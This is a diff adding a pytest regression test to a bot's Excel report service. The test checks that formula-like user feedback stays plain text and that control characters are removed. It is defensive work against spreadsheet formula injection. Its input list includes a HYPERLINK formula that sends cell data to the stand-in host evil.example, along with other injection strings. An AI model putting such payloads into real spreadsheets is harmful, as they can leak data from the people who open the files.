@@ -18,7 +18,7 @@ import pytest
 
 from bot.domain.diagnostics import Level
 from bot.services.charts import DPI, distribution_png, radar_png
-from bot.services.reports import SUMMARY_TITLE, results_xlsx, safe_sheet_title
+from bot.services.reports import SUMMARY_TITLE, Sheet, results_xlsx, safe_sheet_title, workbook
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
 AREAS = [
@@ -304,3 +304,36 @@ def test_xlsx_twenty_thousand_rows_in_under_five_seconds() -> None:
     assert len(read) == 20_001
     assert read[-1][0] == "Иванова Мария Петровна 19999" and read[-1][5] == 19_999 % 12
     wb.close()
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Открыть")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "отзыв\x01 с управляющим символом",
+]
+
+
+def test_formula_like_text_stays_text_and_control_characters_go_in_every_sheet() -> None:
+    """One `\x01` in a feedback broke an event's export for good; `=HYPERLINK(…)` became live."""
+    data = workbook(
+        [
+            Sheet("Люди", ["Имя", "Отзыв"], [[text, text] for text in HOSTILE]),
+            Sheet("Люди", [], [[text] for text in HOSTILE], table=False, bold_first=True),
+        ]
+    )
+    wb = load(data)
+    assert wb.sheetnames == ["Люди", "Люди (2)"]
+    for ws in wb.worksheets:
+        for row in ws.iter_rows(min_row=1 if ws.title == "Люди (2)" else 2):
+            for cell in row:
+                assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
+                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)
+                if cell.value[:1] in "=+-@\t\r":
+                    assert cell.quotePrefix, cell.value
+    first = wb["Люди"]
+    assert first["A2"].value == HOSTILE[0]
+    assert first["B8"].value == "отзыв с управляющим символом"
